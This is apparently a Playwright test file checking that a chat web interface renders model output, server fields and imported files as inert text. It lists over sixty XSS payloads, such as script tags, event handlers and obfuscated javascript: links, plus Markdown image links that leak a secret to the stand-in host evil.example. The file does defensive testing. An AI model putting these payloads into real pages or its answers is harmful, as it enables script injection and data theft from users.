"""Whatever the model, a server or a file says is text: it runs nothing and loads nothing."""

import json
from typing import Any

import pytest
from actions import EXAMPLES, ask, drop
from fake_server import FakeServer, Reply

pytestmark = pytest.mark.web

RUN = "window.attacked=1"
PAYLOADS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:{RUN}>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<video><source onerror={RUN}></video>",
    f"<style>@import 'https://evil.example/x.css'</style><x style='x:expression({RUN})'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<object data=https://evil.example/x></object><embed src=https://evil.example/x>",
    "<form action=https://evil.example><button>x</button></form>",
    "<template shadowrootmode=open><script>window.attacked=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.attacked=1>'>",
    "![x](https://evil.example/pixel.png?secret=1)",
    "![x][ref]\n\n[ref]: https://evil.example/pixel.png",
    "![x](//evil.example/pixel.png)",
    "![x](https://evil.example/a.png 'title')",
    "[![x](https://evil.example/in.png)](https://evil.example/)",
    "![x](data:image/svg+xml,<svg onload=window.attacked=1>)",
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](java\tscript:{RUN})",
    f"[x](java\\nscript:{RUN})",
    f"[x](&#106;avascript:{RUN})",
    f"[x](&#x6A&#x61;vascript:{RUN})",
    f"[x]( javascript:{RUN})",
    f"[x](\x01javascript:{RUN})",
    f"[x](vbscript:{RUN})",
    f"[x](data:text/html,<script>{RUN}</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"[x](blob:https://evil.example/{RUN})",
    "[x](file:///etc/passwd)",
    f"[x](<javascript:{RUN}>)",
    f'[x](https://evil.example/"onmouseover="{RUN})',
    f"[x](https://evil.example/'onmouseover='{RUN})",
    f'[a](https://evil.example "title" onclick={RUN})',
    f"<javascript:{RUN}>",
    f'<https://evil.example/"onclick="{RUN}>',
    f'https://evil.example/"onclick="{RUN}',
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><script>{RUN}</script>\nx\n```',
    f"`<img src=x onerror={RUN}>`",
    f"**<img src=x onerror={RUN}>**",
    f"# <img src=x onerror={RUN}>",
    f"> <script>{RUN}</script>",
    f"- <script>{RUN}</script>",
    f"| <img src=x onerror={RUN}> | b |\n|---|---|\n| <script>{RUN}</script> | c |",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"$$<img src=x onerror={RUN}>$$",
    f"\\(<img src=x onerror={RUN}>\\)",
    f"<!-- --><script>{RUN}</script><!-- -->",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    "\u202e<script>window.attacked=1</script>",
    "[__proto__](https://evil.example/__proto__) __proto__ constructor",
]
ALLOWED_TAGS = (
    "A BLOCKQUOTE BR BUTTON CODE DEL DIV EM H3 H4 H5 H6 HR LI OL P PRE SPAN STRONG SVG TABLE TBODY "
    "TD TH THEAD TR UL USE"
).split()
READ_ANSWER = """
() => [...document.querySelectorAll(".markdown *")].map((node) => [
    node.tagName.toUpperCase(), [...node.attributes].map((one) => [one.name, one.value])])
"""


def check_elements(page: Any) -> None:
    """Only the renderer's own elements, none of which loads or runs anything."""
    for tag, attributes in page.evaluate(READ_ANSWER):
        assert tag in ALLOWED_TAGS
        for name, value in attributes:
            assert name != "style"
            assert not name.startswith("on")
            assert name != "src"
            if name == "href" and tag == "A":
                assert value.startswith(("https://evil.example", "http:"))


def test_there_are_enough_payloads() -> None:
    assert len(PAYLOADS) == len(set(PAYLOADS)) >= 60


def test_the_models_text_runs_and_loads_nothing(page: Any, server: FakeServer) -> None:
    """EchoLeak sent data out through a picture in Markdown. All payloads in one answer, then each
    alone, in pieces of seven characters, as streams cut them."""
    server.replies = [Reply(["\n\n".join(PAYLOADS)])]
    ask(page, "Attack.")
    check_elements(page)
    assert page.locator(".answer .markdown > *").count() > 50
    page.evaluate(
        """async (payloads) => {
            const { GrowingMarkdown } = await import("/page/render.js");
            for (const payload of payloads) {
                const growing = new GrowingMarkdown();
                for (let i = 0; i < payload.length; i += 7) growing.append(payload.slice(i, i + 7));
                document.querySelector("#log").append(growing.element);
            }
        }""",
        PAYLOADS,
    )
    page.wait_for_timeout(100)
    check_elements(page)
    assert page.evaluate("window.attacked") is None


def test_links_tell_where_they_lead(page: Any, server: FakeServer) -> None:
    """`[your bank](https://evil…)` must not look like the bank, nor give away where it was
    clicked."""
    server.replies = [Reply(["[my bank](https://evil.example/login) and <https://a.example/b>"])]
    ask(page, "Links.")
    link = page.locator(".answer a").first
    assert link.get_attribute("rel") == "noopener noreferrer"
    assert link.get_attribute("target") == "_blank"
    text = page.locator(".answer .markdown").inner_text()
    assert text == "my bank (https://evil.example/login) and https://a.example/b"


def test_every_other_field_is_text_too(page: Any, server: FakeServer) -> None:
    """Labels, names, error messages, the question itself."""
    attack = f"<img src=x onerror={RUN}>"
    found = {
        "media": [{"kind": "image", "name": attack, "original_size": [168, 196],
                   "model_size": [168, 196], "num_tokens": 42}],
        "boxes": [{"label": attack, "box": [11, 4, 50, 53], "picture": 0}],
    }  # fmt: skip
    server.replies = [Reply(["[…]"], last=found), Reply([], status=400, error=attack)]
    drop(page, EXAMPLES / "boxes.png")
    page.wait_for_selector(".chip .thumbnail")
    ask(page, attack)
    page.wait_for_selector(".marked .swatch")
    ask(page, attack)
    assert page.locator(".error-box span").inner_text() == attack
    assert page.locator(".rows td").nth(1).inner_text() == attack
    page.wait_for_timeout(50)
    assert page.evaluate("window.attacked") is None
    assert page.locator("img[src='x']").count() == 0


def test_an_imported_file_is_checked(page: Any, server: FakeServer) -> None:
    """A file may come from a stranger: what does not fit is refused, what fits is text."""
    attack = f"<img src=x onerror={RUN}>"
    attachment = {
        "kind": "image", "type": "image/svg+xml", "file": "f", "name": "x", "width": 1, "height": 1,
    }  # fmt: skip
    node = {"role": "user", "parent": "root", "text": attack, "attachments": []}
    whole = {
        "format": "qwen25vl conversations", "version": 1, "files": {},
        "conversations": [{"title": attack, "nodes": {"a": node}, "chosen": {"root": "a"}}],
    }  # fmt: skip
    drawing = json.loads(json.dumps(whole))
    drawing["conversations"][0]["nodes"]["a"]["attachments"] = [attachment]
    drawing["files"]["f"] = "data:image/svg+xml;base64,AAAA"
    circle = json.loads(json.dumps(whole))
    circle["conversations"][0]["nodes"]["a"]["parent"] = "a"
    for wrong in ("no JSON", "{}", json.dumps(drawing), json.dumps(circle)):
        give_import(page, wrong)
        page.wait_for_selector(".notice.error")
        page.click("[aria-label='Close this message']")
    assert page.locator("#conversations .open").count() == 0
    give_import(page, json.dumps(whole))
    assert page.locator(".bubble").inner_text() == attack
    assert page.evaluate("window.attacked") is None


def give_import(page: Any, text: str) -> None:
    file = {"name": "c.json", "mimeType": "application/json", "buffer": text.encode()}
    page.set_input_files("#import-file", files=[file])


def test_an_address_asks_nothing(context: Any, server: FakeServer) -> None:
    """A link to the page must not send a question: llama.cpp's `?q=` did."""
    opened = context.new_page()
    opened.goto(f"{server.url}?q=hello&prompt=hello#q=hello")
    opened.wait_for_selector("#model:not(:empty)")
    opened.wait_for_timeout(200)
    assert server.requests == []
